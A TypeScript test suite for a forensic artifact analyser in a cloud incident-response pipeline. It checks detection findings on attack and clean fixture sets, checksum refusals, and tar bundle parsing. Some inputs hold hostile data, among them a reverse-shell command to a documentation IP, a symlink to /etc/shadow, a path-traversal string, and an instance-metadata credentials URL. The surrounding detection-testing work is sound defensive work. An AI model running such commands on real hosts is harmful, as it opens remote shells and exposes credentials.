/**
 * analyse against moto S3 with the forensic fixture sets (test/fixtures/forensics): the attack
 * set gives exactly the expected findings with pointers to the artifact and lines; the clean
 * baseline gives nothing high or critical. The disk part of each set is packed into a gzip'd tar
 * exactly as collect-disk lays it out (GNU tar, sorted by name), so the bundle path is tested too.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CreateBucketCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { destroyAwsClients, type AwsClients } from '../../../../src/aws/clients.js';
import { loadConfig } from '../../../../src/config.js';
import { createSilentLogger } from '../../../../src/logger.js';
import { addMaliciousIp } from '../../../../src/pipeline/actions/forensics/addMaliciousIp.js';
import {
  analyseArtifacts,
  analyseArtifactsAction,
  bundleMemberKind,
  escapeExcerpt,
  readTar,
  type AnalyseArtifactsDetails,
  type Finding,
} from '../../../../src/pipeline/actions/forensics/analyseArtifacts.js';
import type { ActionDeps } from '../../../../src/pipeline/actions/types.js';
import { invokeAction } from '../../../../src/pipeline/invokeAction.js';
import { createMotoClients, MOTO_REGION, uniqueName } from '../../../support/aws.js';

const FIXTURES = join(import.meta.dirname, '../../../fixtures/forensics');
const ACTOR = 'stepfunctions:forensics-exec-1';

interface Manifest {
  window: { since: string; until: string };
  findingRemoteIp: string;
  knownBadIps: string[];
  instanceAddresses: string[];
  volatile: { file: string; kind: string }[];
  bundleDir: string;
  cloudtrail: string;
}

let aws: AwsClients;
beforeAll(() => {
  aws = createMotoClients();
});
afterAll(() => destroyAwsClients(aws));

function deps(bucket: string): ActionDeps {
  return {
    aws: { s3: aws.s3 },
    settings: { ...loadConfig({ env: {}, envFile: false }).pipeline, evidenceBucket: bucket },
    logger: createSilentLogger(),
    now: () => new Date('2025-05-21T15:10:00Z'),
  };
}

async function newBucket(): Promise<string> {
  const bucket = uniqueName('analyse');
  await aws.s3.send(new CreateBucketCommand({ Bucket: bucket, CreateBucketConfiguration: { LocationConstraint: MOTO_REGION } }));
  return bucket;
}

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

/** The disk part of a fixture set as collect-disk uploads it: a gzip'd tar of manifest.txt and volumes/. */
function packBundle(dir: string): Buffer {
  return execFileSync('tar', ['--sort=name', '--owner=0', '--group=0', '--numeric-owner', '-czf', '-', '-C', dir, 'manifest.txt', 'volumes']);
}

interface Uploaded {
  manifest: Manifest;
  artifacts: { kind: string; location: string; sha256: string }[];
  /** location → short name used in expectations. */
  names: Map<string, string>;
}

async function upload(set: 'attack' | 'clean', bucket: string, incident: string): Promise<Uploaded> {
  const base = join(FIXTURES, set);
  const manifest = JSON.parse(readFileSync(join(base, 'manifest.json'), 'utf-8')) as Manifest;
  const artifacts: Uploaded['artifacts'] = [];
  const names = new Map<string, string>();
  const put = async (key: string, body: Buffer, kind: string, name: string) => {
    await aws.s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: body }));
    const location = `s3://${bucket}/${key}`;
    artifacts.push({ kind, location, sha256: sha256(body) });
    names.set(location, name);
  };
  for (const v of manifest.volatile) await put(`evidence/${incident}/volatile/${v.file.split('/').pop()}`, readFileSync(join(base, v.file)), v.kind, v.file);
  await put(`evidence/${incident}/disk/bundle.tar.gz`, packBundle(join(base, manifest.bundleDir)), 'disk:bundle', 'bundle');
  await put(`evidence/${incident}/cloudtrail.json`, readFileSync(join(base, manifest.cloudtrail)), 'cloudtrail', manifest.cloudtrail);
  return { manifest, artifacts, names };
}

function shortName(u: Uploaded, artifact: string): string {
  const [location, member] = artifact.split('#');
  const name = u.names.get(location!) ?? location!;
  return member ? `${name}#${member}` : name;
}

const summarize = (u: Uploaded, findings: Finding[]) => findings.map((f) => [f.severity, f.ruleId, shortName(u, f.evidence.artifact), f.evidence.lines]);

const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);
const V = (name: string) => `volatile/${name}.txt`;
const B = (member: string) => `bundle#volumes/1/${member}`;
const CT = 'cloudtrail/lookup-events.json';
const ACCESS = B('fs/var/log/apache2/access.log');

/** What the attack set must give: every finding, in report order, with its artifact and lines. */
const EXPECTED_ATTACK = [
  ['critical', 'net-finding-remote-ip', V('network-connections'), [4]],
  ['critical', 'reverse-shell', V('processes'), [23, 24]],
  ['critical', 'crypto-miner', V('processes'), [28]],
  ['critical', 'crypto-miner', V('recent-logs'), [6]],
  ['critical', 'crypto-miner', B('fs/var/log/syslog'), [3]],
  ['critical', 'imds-credential-access', ACCESS, [12, 13]],
  ['critical', 'web-script-in-upload-dir', V('web-recent-files'), [1]],
  ['critical', 'web-script-in-upload-dir', B('weblisting.tsv'), [10]],
  ['critical', 'web-shell-request', ACCESS, [11, 12, 13, 15, 16, 17, 18]],
  ['critical', 'cloudtrail-iam-persistence', CT, [6, 7, 8, 9]],
  ['critical', 'cloudtrail-known-bad-ip', CT, range(4, 12)],
  ['high', 'net-known-bad-ip', V('network-connections'), [6]],
  ['high', 'net-mining-pool-port', V('network-connections'), [5]],
  ['high', 'text-known-bad-ip', V('logged-in-users'), [5]],
  ['high', 'text-known-bad-ip', V('last-logins'), [1]],
  ['high', 'text-known-bad-ip', V('recent-logs'), [18]],
  ['high', 'text-known-bad-ip', ACCESS, [2, 3, 4, 5, 6, 7, 9, 10, 11, 12, 13, 15, 16, 17, 18]],
  ['high', 'download-and-execute', V('recent-logs'), [7, 9, 10, 11]],
  ['high', 'download-and-execute', V('crontabs'), [37]],
  ['high', 'download-and-execute', ACCESS, [16]],
  ['high', 'download-and-execute', B('fs/var/log/syslog'), [4, 6, 7, 8]],
  ['high', 'download-and-execute', B('fs/var/spool/cron/crontabs/root'), [4]],
  ['high', 'history-tampering', V('processes'), [23]],
  ['high', 'history-tampering', V('recent-logs'), [17]],
  ['high', 'history-tampering', ACCESS, [18]],
  ['high', 'authorized-keys-write-command', V('recent-logs'), [16]],
  ['high', 'authorized-keys-write-command', ACCESS, [17]],
  ['high', 'process-from-temp-dir', V('processes'), [28]],
  ['high', 'process-from-temp-dir', V('deleted-binaries'), [1]],
  ['high', 'process-deleted-binary', V('deleted-binaries'), [1]],
  ['high', 'history-linked-to-dev-null', V('shell-histories'), [1]],
  ['high', 'history-linked-to-dev-null', B('listing.tsv'), [33]],
  ['high', 'log-truncated', B('listing.tsv'), [2]],
  ['high', 'authorized-keys-changed', V('authorized-keys'), [2]],
  ['high', 'authorized-keys-changed', B('listing.tsv'), [37]],
  ['high', 'persistence-changed', V('crontabs'), [33]],
  ['high', 'persistence-changed', B('listing.tsv'), [31]],
  ['high', 'cloudtrail-call-from-outside-aws', CT, range(4, 12)],
  ['medium', 'hidden-temp-entry', B('listing.tsv'), [48, 49]],
  ['medium', 'web-file-changed-in-window', V('web-recent-files'), [1]],
  ['medium', 'web-file-changed-in-window', B('weblisting.tsv'), [10]],
];

function analyseInput(u: Uploaded, overrides: Record<string, unknown> = {}) {
  return {
    artifacts: u.artifacts,
    knownBadIps: u.manifest.knownBadIps,
    findingRemoteIp: u.manifest.findingRemoteIp,
    instanceAddresses: u.manifest.instanceAddresses,
    window: u.manifest.window,
    ...overrides,
  };
}

describe('analyse: the attack fixture set', () => {
  let bucket: string;
  let u: Uploaded;
  let details: AnalyseArtifactsDetails;
  beforeAll(async () => {
    bucket = await newBucket();
    u = await upload('attack', bucket, 'inc-attack');
    const result = await invokeAction(analyseArtifactsAction, analyseInput(u), { actor: ACTOR, incidentId: 'inc-attack' }, deps(bucket));
    expect(result.status, result.summary).toBe('succeeded');
    details = result.details as AnalyseArtifactsDetails;
  });

  it('gives exactly the expected findings, most severe first, each pointing at its artifact and lines', () => {
    expect(summarize(u, details.findings)).toEqual(EXPECTED_ATTACK);
    expect(details.counts).toEqual({ critical: 11, high: 27, medium: 3, low: 0, total: 41 });
    for (const f of details.findings) expect(f.evidence.matchCount).toBe(f.evidence.lines.length);
  });

  it('quotes the first matching line as the excerpt, escaped, masked and at most 300 characters', () => {
    const byRule = (id: string, artifact: string) => details.findings.find((f) => f.ruleId === id && shortName(u, f.evidence.artifact) === artifact)!;
    const ps = readFileSync(join(FIXTURES, 'attack/volatile/processes.txt'), 'utf-8').split('\n');
    expect(byRule('reverse-shell', V('processes')).evidence.excerpt).toBe(ps[22]);
    expect(byRule('net-finding-remote-ip', V('network-connections')).evidence.excerpt).toContain('203.0.113.45:4444');
    expect(byRule('imds-credential-access', ACCESS).evidence.excerpt).toContain('169.254.169.254/latest/meta-data/iam/security-credentials/');
    expect(byRule('cloudtrail-iam-persistence', CT).evidence).toMatchObject({ unit: 'event', excerpt: expect.stringMatching(/^2025-05-21T14:08:41Z iam\.amazonaws\.com CreateLoginProfile from 198\.51\.100\.77 ua=aws-cli\//) });
    expect(byRule('log-truncated', B('listing.tsv')).evidence.excerpt).toMatch(/ f -rw-r----- 104 4 0 \/var\/log\/auth\.log $/);
    for (const f of details.findings) {
      expect(Array.from(f.evidence.excerpt).length).toBeLessThanOrEqual(300);
      expect(f.evidence.excerpt).not.toMatch(/[\u0000-\u001f]/);
    }
  });

  it('describes every artifact it read, with sha256 and what it could not parse', () => {
    const bundle = details.artifacts.find((a) => a.kind === 'disk:bundle')!;
    // 13 text members; manifest.txt and webhashes.sha256 are kept in the bundle but not analysed.
    expect(bundle.members).toEqual({ analysed: 13, skipped: 2 });
    for (const a of u.artifacts) expect(details.artifacts.find((x) => x.location === a.location)?.sha256).toBe(a.sha256);
    expect(details.artifacts.flatMap((a) => a.problems)).toEqual([]);
    expect(details.rules).toBeGreaterThanOrEqual(30);
    expect(details.knownBadIps).toBe(2);
  });

  it('stores the findings write-once as evidence; the same analysis again stores nothing new', async () => {
    expect(details.location).toBe(`s3://${bucket}/evidence/inc-attack/${details.sha256}/analysis-findings.json`);
    const stored = await aws.s3.send(new GetObjectCommand({ Bucket: bucket, Key: details.location.slice(`s3://${bucket}/`.length) }));
    const body = await stored.Body!.transformToString();
    expect(sha256(body)).toBe(details.sha256);
    expect(stored.Metadata?.sha256).toBe(details.sha256);
    expect(JSON.parse(body).findings).toEqual(details.findings);
    expect(details.evidence).toMatchObject({ kind: 'analysis:findings', location: details.location, sha256: details.sha256 });

    const again = await invokeAction(analyseArtifactsAction, analyseInput(u), { actor: ACTOR, incidentId: 'inc-attack' }, deps(bucket));
    expect(again.details).toMatchObject({ alreadyStored: true, sha256: details.sha256 });
  });

  it('adds the malicious-IP list to the known-bad set (the pool address listed earlier is then a known-bad connection)', async () => {
    const other = await newBucket();
    const u2 = await upload('attack', other, 'inc-list');
    await addMaliciousIp({ input: { ip: '198.51.100.23', source: 'analysis' }, actor: ACTOR, incidentId: 'inc-earlier' }, deps(other));
    const result = await analyseArtifacts({ input: analyseInput(u2) as never, actor: ACTOR, incidentId: 'inc-list' }, deps(other));
    const d = result.details as AnalyseArtifactsDetails;
    expect(d.knownBadIps).toBe(3);
    expect(summarize(u2, d.findings).filter((f) => f[1] === 'net-known-bad-ip')).toEqual([['high', 'net-known-bad-ip', V('network-connections'), [5, 6]]]);
    expect(d.notes).toContain('1 IP(s) from the malicious-IP list were added to the known-bad set');
  });
});

describe('analyse: the clean baseline', () => {
  it('finds nothing high or critical on a healthy host (a deployment inside the window is only medium)', async () => {
    const bucket = await newBucket();
    const u = await upload('clean', bucket, 'inc-clean');
    const result = await invokeAction(analyseArtifactsAction, analyseInput(u), { actor: ACTOR, incidentId: 'inc-clean' }, deps(bucket));
    expect(result.status).toBe('succeeded');
    const d = result.details as AnalyseArtifactsDetails;
    expect(d.findings.filter((f) => f.severity === 'critical' || f.severity === 'high')).toEqual([]);
    expect(summarize(u, d.findings)).toEqual([
      ['medium', 'web-file-changed-in-window', V('web-recent-files'), [1]],
      ['medium', 'web-file-changed-in-window', B('weblisting.tsv'), [3]],
    ]);
    expect(d.artifacts.flatMap((a) => a.problems)).toEqual([]);
  });
});

describe('analyse: refusals and limits', () => {
  it('refuses an artifact whose sha256 does not match, and stores nothing', async () => {
    const bucket = await newBucket();
    const u = await upload('attack', bucket, 'inc-sha');
    const tampered = u.artifacts.map((a, i) => (i === 0 ? { ...a, sha256: sha256('something else') } : a));
    const result = await invokeAction(analyseArtifactsAction, analyseInput(u, { artifacts: tampered }), { actor: ACTOR, incidentId: 'inc-sha' }, deps(bucket));
    expect(result.status).toBe('failed');
    expect(result.details).toEqual({ error: 'ChecksumMismatch', final: true });
    expect(result.summary).toContain(u.artifacts[0]!.location);
    const listed = await aws.s3.send(new ListObjectsV2Command({ Bucket: bucket, Prefix: 'evidence/inc-sha/' }));
    expect((listed.Contents ?? []).map((o) => o.Key).filter((k) => k!.endsWith('analysis-findings.json'))).toEqual([]);
  });

  it('refuses artifacts outside the evidence bucket, and missing ones', async () => {
    const bucket = await newBucket();
    const window = { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' };
    const outside = await invokeAction(analyseArtifactsAction, { artifacts: [{ kind: 'cloudtrail', location: 's3://someone-elses-bucket/x.json' }], window }, { actor: ACTOR, incidentId: 'i' }, deps(bucket));
    expect(outside.details).toEqual({ error: 'ArtifactOutsideEvidence', final: true });
    const missing = await invokeAction(analyseArtifactsAction, { artifacts: [{ kind: 'cloudtrail', location: `s3://${bucket}/evidence/i/none.json` }], window }, { actor: ACTOR, incidentId: 'i' }, deps(bucket));
    expect(missing.details).toEqual({ error: 'ArtifactNotFound', final: true });
  });

  it('validates kinds and the window', async () => {
    const bucket = await newBucket();
    const bad = [
      { artifacts: [{ kind: 'volatile:unknown', name: 'x', text: '' }], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' } },
      { artifacts: [{ kind: 'cloudtrail', name: 'x', text: '{}' }], window: { since: '2025-05-21T15:00:00Z', until: '2025-05-21T13:30:00Z' } },
      { artifacts: [], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' } },
    ];
    for (const input of bad) expect((await invokeAction(analyseArtifactsAction, input, { actor: ACTOR, incidentId: 'i' }, deps(bucket))).details).toEqual({ error: 'InvalidInput', final: true });
  });

  it('refuses a bundle that unpacks past the limit', async () => {
    const bucket = await newBucket();
    const body = packBundle(join(FIXTURES, 'attack/disk'));
    await aws.s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'evidence/i/b.tar.gz', Body: body }));
    const result = await invokeAction(
      analyseArtifactsAction,
      { artifacts: [{ kind: 'disk:bundle', location: `s3://${bucket}/evidence/i/b.tar.gz` }], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' }, maxExtractedBytes: 4096 },
      { actor: ACTOR, incidentId: 'i' },
      deps(bucket),
    );
    expect(result.details).toEqual({ error: 'BundleTooLarge', final: true });
  });

  it('dry run returns the plan and stores nothing', async () => {
    const bucket = await newBucket();
    const result = await invokeAction(
      analyseArtifactsAction,
      { artifacts: [{ kind: 'volatile:processes', name: 'ps', text: 'x' }], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' } },
      { actor: ACTOR, incidentId: 'inc-dry', dryRun: true },
      deps(bucket),
    );
    expect(result.status).toBe('skipped');
    expect(result.details).toMatchObject({ dryRun: true, artifacts: [{ location: 'inline:ps', kind: 'volatile:processes', rules: expect.arrayContaining(['reverse-shell', 'crypto-miner']) }] });
    expect((await aws.s3.send(new ListObjectsV2Command({ Bucket: bucket }))).KeyCount).toBe(0);
  });

  it('analyses inline texts and escapes what it quotes', async () => {
    const bucket = await newBucket();
    // AWS's documented example key id, assembled so no key-shaped literal sits in the repository.
    const exampleKeyId = ['AKIA', 'IOSFODNN7EXAMPLE'].join('');
    const text = `\u001b[31mbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\u001b[0m; aws configure set aws_access_key_id ${exampleKeyId}\n`;
    const result = await analyseArtifacts(
      { input: { artifacts: [{ kind: 'volatile:histories', name: 'h', text, sha256: sha256(text) }], window: { since: '2025-05-21T13:30:00Z', until: '2025-05-21T15:00:00Z' } } as never, actor: ACTOR, incidentId: 'inc-inline' },
      deps(bucket),
    );
    const d = result.details as AnalyseArtifactsDetails;
    expect(d.findings.map((f) => [f.ruleId, f.evidence.artifact, f.evidence.kind])).toEqual([['reverse-shell', 'inline:h', 'volatile:shell-histories']]);
    expect(d.findings[0]!.evidence.excerpt).toBe('\\u001b[31mbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\\u001b[0m; aws configure set aws_access_key_id [REDACTED]');
  });
});

describe('excerpts and bundles', () => {
  it('escapes controls and invisible characters, masks secrets and caps the length', () => {
    expect(escapeExcerpt('a\tb\u200bc\u202ed')).toBe('a\\tb\\u200bc\\u202ed');
    expect(escapeExcerpt(`token ${'A1b2'.repeat(40)} end`)).toBe('token [REDACTED] end');
    const long = escapeExcerpt('word '.repeat(200));
    expect(Array.from(long)).toHaveLength(300);
    expect(long.endsWith('…')).toBe(true);
  });

  it('reads GNU long names, skips directories and links, and rejects a damaged archive', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sentinel-tar-'));
    try {
      const deep = join('volumes', '1', 'fs', 'var', 'log', 'a'.repeat(60), 'b'.repeat(60));
      mkdirSync(join(dir, deep), { recursive: true });
      writeFileSync(join(dir, deep, 'app.log'), 'line\n');
      execFileSync('ln', ['-s', '/etc/shadow', join(dir, 'volumes/1/fs/var/log/evil')]);
      const tar = execFileSync('tar', ['--format=gnu', '--sort=name', '-cf', '-', '-C', dir, 'volumes']);
      const members = await readTar(tar);
      const file = members.find((m) => m.name.endsWith('app.log'))!;
      expect(file.name).toBe(`${deep}/app.log`);
      expect(file.name.length).toBeGreaterThan(100);
      expect(file.data.toString()).toBe('line\n');
      expect(members.find((m) => m.name.endsWith('evil'))?.type).toBe('2');
      expect(bundleMemberKind(file.name)).toBe('disk:logs');

      const damaged = Buffer.from(tar);
      damaged[10] = damaged[10]! ^ 0xff;
      await expect(readTar(damaged)).rejects.toMatchObject({ name: 'ValidationError', code: 'InvalidBundle', message: expect.stringMatching(/^not a readable tar archive: Invalid tar header/) });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('reads pax path records, and refuses an archive cut short or with more members than allowed', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sentinel-tar-'));
    try {
      // A name component over 100 characters fits no ustar header: only a pax `path` record holds it.
      const deep = join('volumes', '1', 'fs', 'var', 'log', 'd'.repeat(120));
      mkdirSync(join(dir, deep), { recursive: true });
      writeFileSync(join(dir, deep, 'app.log'), 'x'.repeat(2000));
      const tar = execFileSync('tar', ['--format=posix', '--sort=name', '-cf', '-', '-C', dir, 'volumes']);
      expect(tar.includes(Buffer.from(` path=${deep}`))).toBe(true);
      const members = await readTar(tar);
      const file = members.find((m) => m.name.endsWith('app.log'))!;
      expect(file).toMatchObject({ name: `${deep}/app.log`, type: '0' });
      expect(file.data.toString()).toBe('x'.repeat(2000));
      expect(members.filter((m) => m.type === '5').length).toBeGreaterThan(0);

      // Cut inside the file's data: tar-stream reports the end it did not expect.
      const at = tar.indexOf(Buffer.from('x'.repeat(512)));
      await expect(readTar(tar.subarray(0, at + 1000))).rejects.toMatchObject({ code: 'InvalidBundle', message: expect.stringMatching(/^not a readable tar archive: /) });
      await expect(readTar(tar, 2)).rejects.toMatchObject({ code: 'BundleTooLarge', message: 'the bundle has more than 2 members' });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('maps collect-disk member paths to kinds and leaves the rest out', () => {
    expect(bundleMemberKind('volumes/1/listing.tsv')).toBe('disk:listing');
    expect(bundleMemberKind('./volumes/2/weblisting.tsv')).toBe('disk:weblisting');
    expect(bundleMemberKind('volumes/1/accounts.tsv')).toBe('disk:accounts');
    expect(bundleMemberKind('volumes/1/fs/var/log/auth.log.2.gz')).toBe('disk:logs');
    expect(bundleMemberKind('volumes/1/fs/var/log/journal/abc/system.journal')).toBeUndefined();
    expect(bundleMemberKind('volumes/1/fs/home/ubuntu/.bash_history')).toBe('disk:histories');
    expect(bundleMemberKind('volumes/1/fs/var/spool/cron/crontabs/root')).toBe('disk:cron');
    expect(bundleMemberKind('volumes/1/fs/etc/systemd/system/x.service')).toBe('disk:persistence');
    expect(bundleMemberKind('volumes/1/fs/root/.ssh/authorized_keys')).toBe('disk:authorized-keys');
    expect(bundleMemberKind('volumes/1/fs/etc/passwd')).toBeUndefined();
    expect(bundleMemberKind('volumes/1/fs/../../etc/shadow')).toBeUndefined();
    expect(bundleMemberKind('manifest.txt')).toBeUndefined();
  });
});
